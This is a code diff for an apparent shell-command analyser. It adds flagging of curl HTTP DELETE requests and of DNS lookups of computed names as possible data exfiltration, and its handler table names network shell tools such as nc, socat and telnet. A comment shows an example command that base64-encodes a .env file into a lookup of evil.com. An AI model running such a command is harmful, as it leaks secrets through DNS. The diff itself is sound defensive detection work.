@@ -38,6 +38,7 @@ const curl: ProgramHandler = (ctx) => {
     ...uploads.map((u) => ctx.path(u).class),
   ];
   const sending = payloads.length > 0 || (method !== undefined && method !== "GET" && method !== "HEAD");
+  if (method === "DELETE") targets.forEach((t) => ctx.emit({ type: "destroy", what: `HTTP DELETE ${t.value}`, span: t.span }));
   for (const t of targets) {
     const host = hostOf(t.value);
     if (sending) {
@@ -122,16 +123,20 @@ const ssh: ProgramHandler = (ctx) => {
   if (hasFlag(ctx.words, "RD", [])) ctx.emit({ type: "system", what: "ssh port forwarding / tunnel", span: ctx.cmd.span });
 };
 
+/** A lookup of a computed name can carry data out: `host $(cat .env | base64).evil.com`. */
+function dnsLookup(ctx: ProgramContext): void {
+  for (const w of operands(ctx.words, new Set(["-t", "-c", "-p", "-q", "-W", "-i", "-w", "-s", "@"]))) {
+    if (w.dynamic) ctx.emit({ type: "net", direction: "upload", host: w.text, payload: "data", note: "a DNS lookup of a computed name sends that name out", span: w.span });
+  }
+}
+
 export const NET_PROGRAMS: Record<string, ProgramHandler> = {
   curl, wget, scp: copyRemote, rsync: copyRemote, sftp: copyRemote, nc: rawSocket, ncat: rawSocket, netcat: rawSocket,
   socat: rawSocket, telnet: rawSocket, ssh,
   http: (ctx) => operands(ctx.words).slice(0, 2).filter((w) => /[./:]/.test(w.value)).slice(-1).forEach((w) =>
     ctx.emit({ type: "net", direction: operands(ctx.words).length > 2 ? "upload" : "download", host: hostOf(w.value), url: w.value, payload: "data", span: w.span })),
   ftp: (ctx) => ctx.emit({ type: "net", direction: "connect", host: operands(ctx.words)[0]?.value ?? "unknown", span: ctx.cmd.span }),
-  ping: () => {},
-  dig: () => {},
-  nslookup: () => {},
-  host: () => {},
+  ping: dnsLookup, dig: dnsLookup, nslookup: dnsLookup, host: dnsLookup, traceroute: dnsLookup, whois: dnsLookup,
 };
 NET_PROGRAMS.https = NET_PROGRAMS.http;
 NET_PROGRAMS.aria2c = wget;
